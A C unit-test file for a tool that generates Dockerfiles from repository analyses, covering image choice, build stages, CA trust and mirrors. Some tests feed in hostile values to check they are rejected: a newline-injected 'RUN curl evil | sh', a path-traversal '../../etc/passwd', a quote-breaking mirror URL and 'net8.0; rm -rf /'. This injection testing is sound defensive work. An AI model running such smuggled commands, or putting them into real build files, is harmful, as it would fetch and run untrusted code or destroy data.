/* The generated-Dockerfile planner and the analysis JSON helpers: analyses
 * are built by hand here, so these tests do not depend on the detector. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "ad/analysis.h"
#include "buildplan.h"
#include "ad/cleanup.h"

static char **strv(const char *const *v, size_t *n)
{
        char **out;

        for (*n = 0; v && v[*n]; (*n)++)
                ;
        out = calloc(*n + 1, sizeof(*out));
        assert_non_null(out);
        for (size_t i = 0; i < *n; i++)
                out[i] = strdup(v[i]);
        return out;
}

/* An analysis as the detector would hand it out: no NULL strings. */
static struct ad_analysis *analysis(const char *language, const char *install, const char *build,
                                    const char *start, unsigned port, const char *const *deps)
{
        struct ad_analysis *a = calloc(1, sizeof(*a));

        assert_non_null(a);
        a->language = strdup(language);
        a->framework = strdup("");
        a->version = strdup("");
        a->package_manager = strdup(strcmp(language, "node") == 0 ? "npm" : "");
        a->install_command = strdup(install);
        a->build_command = strdup(build);
        a->start_command = strdup(start);
        a->go_main_package = strdup("");
        a->static_root = strdup("");
        a->dockerfile_path = strdup("");
        a->port = port;
        a->dependency_files = strv(deps, &a->n_dependency_files);
        a->cpu_millis = 500;
        a->memory_mb = 512;
        a->why = json_object();
        return a;
}

static void replace(char **field, const char *value)
{
        free(*field);
        *field = strdup(value);
}

static char *plan(const struct ad_analysis *a, bool extra_ca)
{
        struct ad_buildplan_images images;
        ad_error_t err = NULL;
        char *out = NULL;

        ad_buildplan_images_default(&images);
        images.extra_ca = extra_ca;
        if (ad_buildplan_dockerfile(&out, a, &images, &err) < 0)
                fail_msg("ad_buildplan_dockerfile: %s", ad_error_message(err));
        return out;
}

static int plan_fails(const struct ad_analysis *a, const char *msg_part)
{
        struct ad_buildplan_images images;
        ad_error_t err = NULL;
        char *out = NULL;
        int r;

        ad_buildplan_images_default(&images);
        r = ad_buildplan_dockerfile(&out, a, &images, &err);
        assert_true(r < 0);
        assert_null(out);
        if (strstr(ad_error_message(err), msg_part) == NULL)
                fail_msg("`%s` does not contain `%s`", ad_error_message(err), msg_part);
        ad_error_release(&err);
        return -r;
}

/* `line` occurs as a whole line; returns its offset for ordering checks. */
static size_t line_at(const char *text, const char *line)
{
        size_t n = strlen(line);

        for (const char *p = text; (p = strstr(p, line)) != NULL; p++)
                if ((p == text || p[-1] == '\n') && (p[n] == '\n' || p[n] == '\0'))
                        return (size_t)(p - text);
        fail_msg("no line `%s` in:\n%s", line, text);
        return 0;
}

static bool has_line(const char *text, const char *line)
{
        size_t n = strlen(line);

        for (const char *p = text; (p = strstr(p, line)) != NULL; p++)
                if ((p == text || p[-1] == '\n') && (p[n] == '\n' || p[n] == '\0'))
                        return true;
        return false;
}

/* Offset of the first occurrence of `part`, which must occur.  Not
 * inlined: gcc 12's -Wdangling-pointer, in Release, takes the pointer for
 * one into plan()'s local once both are inlined into a test. */
__attribute__((noinline)) static size_t at(const char *text, const char *part)
{
        size_t n = strlen(part);

        /* An index, not strstr() - text: gcc 12 -O2 takes that pointer
         * for one to plan()'s `out` (its address escaped) and warns. */
        for (size_t i = 0; text[i] != '\0'; i++)
                if (strncmp(text + i, part, n) == 0)
                        return i;
        fail_msg("no `%s` in:\n%s", part, text);
        return 0;
}

static const char *const node_deps[] = { "package.json", "package-lock.json", NULL };

static void test_images_default(void **state)
{
        struct ad_buildplan_images images;

        (void)state;
        ad_buildplan_images_default(&images);
        assert_string_equal(ad_buildplan_images_get(&images, "node"),
                            "localhost/app-deployer/node:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "python"),
                            "localhost/app-deployer/python:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "go"),
                            "localhost/app-deployer/go:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "static"),
                            "localhost/app-deployer/static:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "php"),
                            "localhost/app-deployer/php:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "base"),
                            "localhost/app-deployer/base:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "rust"),
                            "localhost/app-deployer/rust:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "java"),
                            "localhost/app-deployer/java:bookworm");
        assert_string_equal(ad_buildplan_images_get(&images, "jre"),
                            "localhost/app-deployer/jre:bookworm");
        assert_false(images.extra_ca);
        assert_string_equal(ad_buildplan_image(&images, "go"),
                            ad_buildplan_images_get(&images, "base"));
        assert_null(ad_buildplan_image(&images, "dockerfile"));
}

/* The whole file once, so a change to the plan is a visible diff here. */
static void test_node_golden(void **state)
{
        cleanup_analysis struct ad_analysis *a =
                analysis("node", "npm ci --omit=dev", "", "npm start", 3000, node_deps);
        cleanup_free char *df = NULL;

        (void)state;
        replace(&a->framework, "express");
        df = plan(a, false);
        assert_string_equal(df, "# Generated by app-deployer from the repository analysis (node, "
                                "express).\n"
                                "FROM localhost/app-deployer/node:bookworm\n"
                                "USER root\n"
                                "WORKDIR /app\n"
                                "COPY package.json package-lock.json ./\n"
                                "RUN npm ci --omit=dev\n"
                                "COPY . .\n"
                                "ENV NODE_ENV=production PORT=3000\n"
                                "EXPOSE 3000\n"
                                "# Never run the app as root: 10001 is the images' `app` user.\n"
                                "USER 10001\n"
                                "CMD [\"sh\",\"-c\",\"exec npm start\"]\n");
}

static void test_node_extra_ca_and_build(void **state)
{
        cleanup_analysis struct ad_analysis *a =
                analysis("node", "npm ci", "npm run build", "npm start", 3000, node_deps);
        cleanup_free char *df = NULL;
        size_t ca, env, manifests, install, source, build, user;

        (void)state;
        df = plan(a, true);
        ca = line_at(df, "COPY .ad-extra-ca.pem /etc/ssl/certs/ad-extra-ca.pem");
        env = at(df, "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ad-ca-bundle.pem");
        manifests = line_at(df, "COPY package.json package-lock.json ./");
        install = line_at(df, "RUN npm ci");
        source = line_at(df, "COPY . .");
        build = line_at(df, "RUN npm run build");
        user = line_at(df, "USER 10001");
        /* CA before the install; manifests, install, source, build, user. */
        assert_true(ca < env && env < install);
        assert_true(manifests < install && install < source && source < build && build < user);
        assert_false(has_line(df, "RUN npm config set cafile"));
}

static void test_node_yarn_installs_yarn(void **state)
{
        static const char *const deps[] = { "package.json", "yarn.lock", NULL };
        cleanup_analysis struct ad_analysis *a =
                analysis("node", "yarn install --frozen-lockfile --production", "", "yarn start",
                         3000, deps);
        cleanup_free char *df = NULL;

        (void)state;
        replace(&a->package_manager, "yarn");
        df = plan(a, false);
        assert_true(line_at(df, "RUN command -v yarn >/dev/null || npm install -g --no-audit "
                                "--no-fund yarn") < line_at(df, "COPY package.json yarn.lock ./"));
}

static void test_python(void **state)
{
        static const char *const deps[] = { "requirements.txt", NULL };
        cleanup_analysis struct ad_analysis *a =
                analysis("python", "python3 -m pip install -r requirements.txt", "",
                         "python3 app.py", 8000, deps);
        cleanup_analysis struct ad_analysis *plain =
                analysis("python", "", "", "python3 app.py", 8000, NULL);
        cleanup_free char *df = NULL;
        cleanup_free char *df_plain = NULL;

        (void)state;
        df = plan(a, true);
        assert_true(line_at(df, "COPY requirements.txt ./") <
                    line_at(df, "RUN python3 -m pip install -r requirements.txt"));
        assert_true(at(df, "PIP_CERT=/etc/ssl/certs/ad-ca-bundle.pem") <
                    line_at(df, "RUN python3 -m pip install -r requirements.txt"));
        line_at(df, "FROM localhost/app-deployer/python:bookworm");
        line_at(df, "ENV PORT=8000");
        line_at(df, "EXPOSE 8000");
        line_at(df, "CMD [\"sh\",\"-c\",\"exec python3 app.py\"]");

        /* Standard library only: no pip anywhere, even with an extra CA. */
        df_plain = plan(plain, true);
        assert_null(strstr(df_plain, "pip"));
        assert_null(strstr(df_plain, "ad-extra-ca"));
}

static void test_go_multi_stage(void **state)
{
        static const char *const deps[] = { "go.mod", "go.sum", NULL };
        cleanup_analysis struct ad_analysis *a = analysis(
                "go", "go mod download", "go build -o bin/api ./cmd/api", "./bin/api", 8080, deps);
        cleanup_analysis struct ad_analysis *no_build =
                analysis("go", "", "", "./bin/app", 8080, NULL);
        cleanup_free char *df = NULL;
        cleanup_free char *df2 = NULL;
        size_t build_stage, final_stage;

        (void)state;
        replace(&a->go_main_package, "./cmd/api");
        df = plan(a, false);
        build_stage = line_at(df, "FROM localhost/app-deployer/go:bookworm AS build");
        final_stage = line_at(df, "FROM localhost/app-deployer/base:bookworm");
        assert_true(build_stage < final_stage);
        assert_non_null(strstr(df, "CGO_ENABLED=0"));
        assert_true(line_at(df, "COPY go.mod go.sum ./") < line_at(df, "RUN go mod download"));
        assert_true(line_at(df, "RUN go build -o bin/api ./cmd/api") < final_stage);
        assert_true(final_stage < line_at(df, "COPY --from=build /app/bin/ /app/bin/"));
        assert_true(final_stage < line_at(df, "USER 10001"));
        line_at(df, "CMD [\"sh\",\"-c\",\"exec ./bin/api\"]");

        /* An analysis without a build command still builds into bin/. */
        df2 = plan(no_build, false);
        line_at(df2, "RUN go build -o bin/app .");
}

static void test_static(void **state)
{
        cleanup_analysis struct ad_analysis *a = analysis("static", "", "", "", 8080, NULL);
        cleanup_free char *df = NULL;

        (void)state;
        replace(&a->static_root, "public");
        df = plan(a, false);
        line_at(df, "FROM localhost/app-deployer/static:bookworm");
        line_at(df, "COPY public/ ./");
        line_at(df, "USER 10001");
        /* The static image's own CMD serves /app on $PORT. */
        assert_null(strstr(df, "CMD"));
}

static void test_php_and_shell(void **state)
{
        cleanup_analysis struct ad_analysis *php =
                analysis("php", "", "", "php-serve .", 8080, NULL);
        cleanup_analysis struct ad_analysis *shell =
                analysis("shell", "", "", "./run.sh --port $PORT", 8080, NULL);
        cleanup_free char *df = NULL;
        cleanup_free char *df2 = NULL;

        (void)state;
        df = plan(php, false);
        line_at(df, "FROM localhost/app-deployer/php:bookworm");
        line_at(df, "CMD [\"sh\",\"-c\",\"exec php-serve .\"]");
        df2 = plan(shell, false);
        line_at(df2, "FROM localhost/app-deployer/base:bookworm");
}

static void test_exec_only_for_simple_commands(void **state)
{
        cleanup_analysis struct ad_analysis *a =
                analysis("node", "", "", "npm run migrate && npm start", 3000, NULL);
        cleanup_analysis struct ad_analysis *b =
                analysis("node", "", "", "NODE_OPTIONS=--max-old-space-size=256 node \"a b.js\"",
                         3000, NULL);
        cleanup_free char *df = NULL;
        cleanup_free char *df2 = NULL;

        (void)state;
        df = plan(a, false);
        line_at(df, "CMD [\"sh\",\"-c\",\"npm run migrate && npm start\"]");
        /* An assignment prefix cannot follow exec; quotes are JSON-escaped. */
        df2 = plan(b, false);
        line_at(df2, "CMD [\"sh\",\"-c\",\"NODE_OPTIONS=--max-old-space-size=256 node "
                     "\\\"a b.js\\\"\"]");
}

static void test_refusals(void **state)
{
        cleanup_analysis struct ad_analysis *docker =
                analysis("dockerfile", "", "", "", 8080, NULL);
        cleanup_analysis struct ad_analysis *no_start =
                analysis("node", "npm ci", "", "", 3000, NULL);
        cleanup_analysis struct ad_analysis *newline =
                analysis("node", "", "", "node a.js\nRUN curl evil | sh", 3000, NULL);
        cleanup_analysis struct ad_analysis *bad_port =
                analysis("node", "", "", "node a.js", 0, NULL);
        static const char *const escape[] = { "../../etc/passwd", NULL };
        cleanup_analysis struct ad_analysis *bad_path =
                analysis("node", "npm ci", "", "npm start", 3000, escape);
        cleanup_analysis struct ad_analysis *unknown = analysis("cobol", "", "", "run", 80, NULL);

        (void)state;
        assert_int_equal(plan_fails(docker, "the repository's own Dockerfile is used"),
                         AD_ERR_INVALID);
        assert_int_equal(plan_fails(no_start, "no start command"), AD_ERR_INVALID);
        assert_int_equal(plan_fails(newline, "control character"), AD_ERR_INVALID);
        assert_int_equal(plan_fails(bad_port, "port 0"), AD_ERR_INVALID);
        assert_int_equal(plan_fails(bad_path, "leaves the build context"), AD_ERR_INVALID);
        assert_int_equal(plan_fails(unknown, "no build plan for language `cobol`"),
                         AD_ERR_UNSUPPORTED);
}

static void test_quantities(void **state)
{
        (void)state;
        assert_int_equal(ad_analysis_parse_cpu("500m"), 500);
        assert_int_equal(ad_analysis_parse_cpu("2"), 2000);
        assert_int_equal(ad_analysis_parse_cpu("1.5"), -1);
        assert_int_equal(ad_analysis_parse_cpu(""), -1);
        assert_int_equal(ad_analysis_parse_memory("512Mi"), 512);
        assert_int_equal(ad_analysis_parse_memory("1Gi"), 1024);
        assert_int_equal(ad_analysis_parse_memory("512M"), -1);
        assert_int_equal(ad_analysis_parse_memory(NULL), -1);
        /* A value must come back from "<n>m"/"<n>Mi": the scaled result has
         * the same bound as the written one (fuzz_analysis found "2502"). */
        assert_int_equal(ad_analysis_parse_cpu("2097"), 2097000);
        assert_int_equal(ad_analysis_parse_cpu("2098"), -1);
        assert_int_equal(ad_analysis_parse_cpu("2097151m"), 2097151);
        assert_int_equal(ad_analysis_parse_cpu("2097152m"), -1);
        assert_int_equal(ad_analysis_parse_memory("2047Gi"), 2047 * 1024);
        assert_int_equal(ad_analysis_parse_memory("2048Gi"), -1);
}

static void test_from_json(void **state)
{
        struct ad_analysis *a = NULL;
        ad_error_t err = NULL;
        json_t *j = json_pack("{s:s, s:i, s:[s], s:{s:s, s:s}}", "language", "go", "port", 8080,
                              "envVars", "X", "resources", "cpu", "250m", "memory", "128Mi");
        json_t *bad = json_pack("{s:s}", "port", "80");

        (void)state;
        assert_int_equal(ad_analysis_from_json(&a, j, &err), 0);
        assert_string_equal(a->language, "go");
        assert_string_equal(a->framework, ""); /* missing -> "" */
        assert_int_equal(a->port, 8080);
        assert_int_equal(a->n_env_vars, 1);
        assert_string_equal(a->env_vars[0], "X");
        assert_int_equal(a->cpu_millis, 250);
        assert_int_equal(a->memory_mb, 128);
        ad_analysis_free(a);
        a = NULL;

        assert_int_equal(ad_analysis_from_json(&a, bad, &err), -AD_ERR_INVALID);
        assert_null(a);
        ad_error_release(&err);
        json_decref(j);
        json_decref(bad);
        ad_analysis_free(NULL);
}

static void test_spa_builds_with_node_serves_static(void **state)
{
        static const char *const deps[] = { "package.json", "package-lock.json", NULL };
        cleanup_analysis struct ad_analysis *a =
                analysis("node", "npm ci", "npm run build", "", 8080, deps);
        cleanup_free char *d = NULL;

        (void)state;
        a->output_dir = strdup("dist");
        d = plan(a, false);
        assert_true(line_at(d, "FROM localhost/app-deployer/node:bookworm AS build") <
                    line_at(d, "RUN npm run build"));
        assert_true(line_at(d, "RUN npm run build") <
                    line_at(d, "FROM localhost/app-deployer/static:bookworm"));
        assert_true(line_at(d, "FROM localhost/app-deployer/static:bookworm") <
                    line_at(d, "COPY --from=build /app/dist/ ./"));
        /* No node at run time: the static image's own CMD serves /app. */
        assert_null(strstr(d, "CMD"));
        assert_null(strstr(d, "NODE_ENV"));

        replace(&a->output_dir, "../etc");
        plan_fails(a, "leaves the build context");
}

/* The release command is not in the image's CMD: the deployer runs it
 * once per release in a container of its own (deploy.built's
 * release_command), not in every web container at each start. */
static void test_release_not_in_cmd(void **state)
{
        cleanup_analysis struct ad_analysis *a =
                analysis("python", "", "", "python3 app.py", 8000, NULL);
        cleanup_free char *d = NULL;

        (void)state;
        a->release_command = strdup("python3 manage.py migrate --noinput");
        d = plan(a, false);
        assert_true(has_line(d, "CMD [\"sh\",\"-c\",\"exec python3 app.py\"]"));
        assert_null(strstr(d, "migrate"));
        replace(&a->release_command, "x\nRUN evil");
        plan_fails(a, "releaseCommand contains a control character");
        replace(&a->release_command, "");

        /* deployer.yaml env: only plain names, no line breaks in values. */
        a->env = json_pack("{s:s}", "BAD-NAME", "x");
        plan_fails(a, "env name `BAD-NAME` is not");
        json_decref(a->env);
        a->env = json_pack("{s:s}", "OK", "line\nRUN evil");
        plan_fails(a, "OK contains a control character");
}

/* Languages with no runtime image: base + the toolchain from Debian. */
static void test_toolchains_from_debian(void **state)
{
        static const struct {
                const char *language, *pm, *packages;
        } cases[] = {
                { "ruby", "bundler", "ruby-full bundler build-essential git" },
                { "elixir", "mix", "elixir erlang-dev" },
                { "cpp", "cmake", "cmake make g++" },
                { "cpp", "meson", "meson ninja-build g++" },
                { "dotnet", "dotnet", "curl libicu72" },
        };

        (void)state;
        for (size_t i = 0; i < AD_ARRAY_SIZE(cases); i++) {
                cleanup_analysis struct ad_analysis *a =
                        analysis(cases[i].language, "", "make", "./run", 8080, NULL);
                cleanup_free char *d = NULL;
                cleanup_free char *ca = NULL;

                replace(&a->package_manager, cases[i].pm);
                d = plan(a, false);
                assert_true(line_at(d, "FROM localhost/app-deployer/base:bookworm") <
                            line_at(d, "RUN make"));
                if (strstr(d, cases[i].packages) == NULL)
                        fail_msg("%s/%s: no `%s` in:\n%s", cases[i].language, cases[i].pm,
                                 cases[i].packages, d);
                assert_true(has_line(d, "USER 10001"));
                assert_true(has_line(d, "CMD [\"sh\",\"-c\",\"exec ./run\"]"));
                ca = plan(a, true);
                assert_non_null(strstr(ca, "SSL_CERT_FILE=/etc/ssl/certs/ad-ca-bundle.pem"));
        }
}

/* Rust: crates in a layer keyed by Cargo.toml/Cargo.lock, the build in
 * its own stage, the final image holds target/release's executables. */
static void test_rust_multi_stage(void **state)
{
        static const char *const deps[] = { "Cargo.toml", "Cargo.lock", NULL };
        cleanup_analysis struct ad_analysis *a =
                analysis("rust", "cargo fetch --locked", "cargo build --release --bin api",
                         "./target/release/api", 8080, deps);
        cleanup_free char *d = NULL;
        size_t build, final;

        (void)state;
        replace(&a->package_manager, "cargo");
        d = plan(a, true);
        build = line_at(d, "FROM localhost/app-deployer/rust:bookworm AS build");
        final = line_at(d, "FROM localhost/app-deployer/base:bookworm");
        assert_true(build < at(d, "CARGO_HTTP_CAINFO=/etc/ssl/certs/ad-ca-bundle.pem"));
        assert_true(at(d, "CARGO_HTTP_CAINFO") < line_at(d, "COPY Cargo.toml Cargo.lock ./"));
        assert_true(line_at(d, "COPY Cargo.toml Cargo.lock ./") < at(d, "cargo fetch --locked"));
        assert_true(at(d, "cargo fetch --locked") < line_at(d, "COPY . ."));
        assert_true(line_at(d, "COPY . .") < at(d, "&& cargo build --release --bin api\n"));
        assert_true(at(d, "--bin api\n") < final);
        /* Nothing of the build stage but /ad-out; no toolchain after FROM. */
        assert_true(final < line_at(d, "COPY --from=build /ad-out/ /app/"));
        assert_null(strstr(d + final, "cargo"));
        assert_null(strstr(d + final, "CA_BUNDLE"));
        line_at(d, "CMD [\"sh\",\"-c\",\"exec ./target/release/api\"]");
}

/* Java: Maven resolves in a layer keyed by pom.xml; the jar runs on the
 * JRE image; the JVM trusts the extra CA through a truststore. */
static void test_java_multi_stage(void **state)
{
        static const char *const deps[] = { "pom.xml", NULL };
        cleanup_analysis struct ad_analysis *a =
                analysis("java", "mvn -B -q dependency:go-offline", "mvn -B -DskipTests package",
                         "java $JAVA_OPTS -Dserver.port=$PORT -jar target/*.jar", 8080, deps);
        cleanup_free char *d = NULL;
        cleanup_free char *plain = NULL;
        size_t final;

        (void)state;
        replace(&a->package_manager, "maven");
        d = plan(a, true);
        final = line_at(d, "FROM localhost/app-deployer/jre:bookworm");
        assert_true(line_at(d, "FROM localhost/app-deployer/java:bookworm AS build") <
                    at(d, "java /tmp/ad-ts/T.java"));
        assert_true(at(d, "ad-truststore.p12 -Djavax.net.ssl.trustStoreType=PKCS12") <
                    line_at(d, "COPY pom.xml ./"));
        assert_true(line_at(d, "COPY pom.xml ./") < at(d, "mvn -B -q dependency:go-offline"));
        assert_true(line_at(d, "COPY . .") < line_at(d, "RUN mvn -B -DskipTests package"));
        assert_true(line_at(d, "RUN mvn -B -DskipTests package") < at(d, "cp target/*.jar"));
        assert_true(at(d, "cp target/*.jar") < final);
        assert_null(strstr(d + final, "JAVA_TOOL_OPTIONS"));
        line_at(d, "CMD [\"sh\",\"-c\",\"exec java $JAVA_OPTS -Dserver.port=$PORT -jar "
                   "target/*.jar\"]");
        plain = plan(a, false);
        assert_null(strstr(plain, "truststore"));
}

/* With an extra CA every plan that installs anything gives every tool
 * its variable, before the install. */
static void test_trust_reaches_every_tool(void **state)
{
        static const char *const vars[] = {
                "SSL_CERT_FILE=",
                "REQUESTS_CA_BUNDLE=",
                "PIP_CERT=",
                "CURL_CA_BUNDLE=",
                "GIT_SSL_CAINFO=",
                "CARGO_HTTP_CAINFO=",
                "DENO_CERT=",
                "UV_NATIVE_TLS=1",
                "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ad-ca-bundle.pem",
        };
        static const char *const py_deps[] = { "pyproject.toml", "uv.lock", NULL };
        static const char *const go_deps[] = { "go.mod", "go.sum", NULL };
        struct {
                const char *language, *pm, *install, *build, *start;
                const char *const *deps;
        } cases[] = {
                { "node", "pnpm", "pnpm install --frozen-lockfile", "", "pnpm start", node_deps },
                { "python", "uv", "python3 -m pip install uv && uv sync --frozen", "",
                  "python3 -m uvicorn main:app", py_deps },
                { "go", "go", "go mod download", "go build -o bin/app .", "./bin/app", go_deps },
                { "ruby", "bundler", "bundle install", "", "bundle exec puma", NULL },
                { "deno", "deno", "", "", "deno task start", NULL },
        };

        (void)state;
        for (size_t i = 0; i < AD_ARRAY_SIZE(cases); i++) {
                cleanup_analysis struct ad_analysis *a =
                        analysis(cases[i].language, cases[i].install, cases[i].build,
                                 cases[i].start, 8080, cases[i].deps);
                cleanup_free char *d = NULL;
                size_t first_run;

                replace(&a->package_manager, cases[i].pm);
                d = plan(a, true);
                first_run = line_at(d, "COPY . .");
                if (*cases[i].install)
                        first_run = at(d, cases[i].install);
                for (size_t v = 0; v < AD_ARRAY_SIZE(vars); v++)
                        if (at(d, vars[v]) > first_run)
                                fail_msg("%s: %s after the install in:\n%s", cases[i].language,
                                         vars[v], d);
                /* The bundle is PEM blocks only: comments in the extra file
                 * would stop the JVM's parser. */
                at(d, "sed -n '/-BEGIN CERTIFICATE-/,/-END CERTIFICATE-/p' > "
                      "/etc/ssl/certs/ad-ca-bundle.pem");
        }
}

static void test_mirrors(void **state)
{
        static const char *const go_deps[] = { "go.mod", "go.sum", NULL };
        static const char *const py_deps[] = { "requirements.txt", NULL };
        cleanup_analysis struct ad_analysis *go = analysis(
                "go", "go mod download", "go build -o bin/app .", "./bin/app", 8080, go_deps);
        cleanup_analysis struct ad_analysis *py =
                analysis("python", "python3 -m pip install -r requirements.txt", "",
                         "python3 -m gunicorn app:app", 8000, py_deps);
        cleanup_analysis struct ad_analysis *node =
                analysis("node", "npm ci", "", "npm start", 3000, node_deps);
        cleanup_analysis struct ad_analysis *rust =
                analysis("rust", "", "cargo build --release", "./target/release/x", 8080, NULL);
        cleanup_analysis struct ad_analysis *java =
                analysis("java", "", "mvn -B package", "java -jar target/x.jar", 8080, NULL);
        struct ad_buildplan_images images;
        ad_error_t err = NULL;
        char *d = NULL;

        (void)state;
        ad_buildplan_images_default(&images);
        images.mirrors = (struct ad_buildplan_mirrors){
                .pypi = "https://pypi.corp/simple",
                .npm = "https://npm.corp/",
                .goproxy = "https://goproxy.corp,direct",
                .gosumdb = "off",
                .goflags = "-mod=mod",
                .maven = "https://maven.corp/central",
                .cargo = "https://cargo.corp/index/",
        };
        assert_int_equal(ad_buildplan_dockerfile(&d, go, &images, &err), 0);
        assert_true(line_at(d, "ENV GOPROXY=\"https://goproxy.corp,direct\"") <
                    line_at(d, "RUN go mod download"));
        line_at(d, "ENV GOSUMDB=\"off\"");
        line_at(d, "ENV GOFLAGS=\"-trimpath -mod=mod\"");
        assert_null(strstr(d, "PIP_INDEX_URL"));
        free(d);
        assert_int_equal(ad_buildplan_dockerfile(&d, py, &images, &err), 0);
        assert_true(at(d, "PIP_INDEX_URL=\"https://pypi.corp/simple\"") <
                    line_at(d, "RUN python3 -m pip install -r requirements.txt"));
        at(d, "UV_DEFAULT_INDEX=\"https://pypi.corp/simple\"");
        assert_null(strstr(d, "GOPROXY"));
        free(d);
        assert_int_equal(ad_buildplan_dockerfile(&d, node, &images, &err), 0);
        assert_true(at(d, "NPM_CONFIG_REGISTRY=\"https://npm.corp/\"") < line_at(d, "RUN npm ci"));
        at(d, "YARN_NPM_REGISTRY_SERVER=\"https://npm.corp/\"");
        free(d);
        assert_int_equal(ad_buildplan_dockerfile(&d, rust, &images, &err), 0);
        at(d, "replace-with = \"ad-mirror\"");
        at(d, "' 'sparse+https://cargo.corp/index/' >> \"$CARGO_HOME/config.toml\"");
        free(d);
        assert_int_equal(ad_buildplan_dockerfile(&d, java, &images, &err), 0);
        at(d, "<mirrorOf>*</mirrorOf><url>%s</url>");
        at(d, "'https://maven.corp/central' > /root/.m2/settings.xml");
        free(d);
        d = NULL;

        /* A mirror cannot break out of its ENV line or its quotes. */
        images.mirrors.npm = "https://x/\"; RUN evil";
        assert_true(ad_buildplan_dockerfile(&d, node, &images, &err) < 0);
        assert_null(d);
        assert_non_null(strstr(ad_error_message(err), "mirrors.npm"));
        ad_error_release(&err);
        assert_true(ad_buildplan_check_mirror("m", "https://x/$HOME", &err) < 0);
        ad_error_release(&err);
        assert_true(ad_buildplan_check_mirror("m", "https://x/'", &err) < 0);
        ad_error_release(&err);
        assert_int_equal(ad_buildplan_check_mirror("m", NULL, &err), 0);
        assert_int_equal(ad_buildplan_check_mirror("m", "", &err), 0);
}

static void test_dotnet_channel_and_deno(void **state)
{
        cleanup_analysis struct ad_analysis *a =
                analysis("dotnet", "", "dotnet publish", "dotnet out/A.dll", 8080, NULL);
        cleanup_analysis struct ad_analysis *d =
                analysis("deno", "", "", "deno task start", 8000, NULL);
        cleanup_free char *p1 = NULL;
        cleanup_free char *p2 = NULL;
        cleanup_free char *p3 = NULL;

        (void)state;
        replace(&a->version, "net9.0");
        p1 = plan(a, false);
        assert_non_null(strstr(p1, "--channel 9.0 "));
        replace(&a->version, "net8.0; rm -rf /");
        p2 = plan(a, false);
        assert_non_null(strstr(p2, "--channel 8.0 ")); /* junk: the default */
        p3 = plan(d, false);
        assert_true(line_at(p3, "FROM localhost/app-deployer/node:bookworm") <
                    line_at(p3, "RUN npm install -g --no-audit --no-fund deno"));
}

static void test_json_new_fields_round_trip(void **state)
{
        cleanup_analysis struct ad_analysis *a = analysis("node", "", "", "npm start", 3000, NULL);
        cleanup_analysis struct ad_analysis *b = NULL;
        ad_error_t err = NULL;
        json_t *j, *j2, *bad;

        (void)state;
        a->release_command = strdup("npm run migrate");
        a->output_dir = strdup("");
        a->replicas = 3;
        a->autoscale_min = 2;
        a->autoscale_max = 5;
        a->autoscale_cpu = 70;
        a->env = json_pack("{s:s}", "LOG_LEVEL", "info");
        a->backend = strdup("kubernetes");
        j = ad_analysis_to_json(a);
        assert_string_equal(json_string_value(json_object_get(j, "backend")), "kubernetes");
        assert_int_equal(json_integer_value(json_object_get(j, "replicas")), 3);
        assert_int_equal(
                json_integer_value(json_object_get(json_object_get(j, "autoscaling"), "max")), 5);
        assert_string_equal(json_string_value(json_object_get(j, "releaseCommand")),
                            "npm run migrate");
        assert_int_equal(ad_analysis_from_json(&b, j, &err), 0);
        j2 = ad_analysis_to_json(b);
        assert_true(json_equal(j, j2));
        bad = json_pack("{s:i}", "replicas", 0);
        ad_analysis_free(b);
        b = NULL;
        assert_int_equal(ad_analysis_from_json(&b, bad, &err), -AD_ERR_INVALID);
        assert_non_null(strstr(err->msg, "replicas"));
        ad_error_release(&err);
        json_decref(bad);
        bad = json_pack("{s:s}", "backend", "nomad"); /* only engine or kubernetes */
        assert_int_equal(ad_analysis_from_json(&b, bad, &err), -AD_ERR_INVALID);
        assert_non_null(strstr(err->msg, "backend"));
        ad_error_release(&err);
        json_decref(bad);
        json_decref(j);
        json_decref(j2);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_images_default),
                cmocka_unit_test(test_node_golden),
                cmocka_unit_test(test_node_extra_ca_and_build),
                cmocka_unit_test(test_node_yarn_installs_yarn),
                cmocka_unit_test(test_python),
                cmocka_unit_test(test_go_multi_stage),
                cmocka_unit_test(test_static),
                cmocka_unit_test(test_php_and_shell),
                cmocka_unit_test(test_exec_only_for_simple_commands),
                cmocka_unit_test(test_refusals),
                cmocka_unit_test(test_quantities),
                cmocka_unit_test(test_from_json),
                cmocka_unit_test(test_spa_builds_with_node_serves_static),
                cmocka_unit_test(test_release_not_in_cmd),
                cmocka_unit_test(test_toolchains_from_debian),
                cmocka_unit_test(test_rust_multi_stage),
                cmocka_unit_test(test_java_multi_stage),
                cmocka_unit_test(test_trust_reaches_every_tool),
                cmocka_unit_test(test_mirrors),
                cmocka_unit_test(test_dotnet_channel_and_deno),
                cmocka_unit_test(test_json_new_fields_round_trip),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
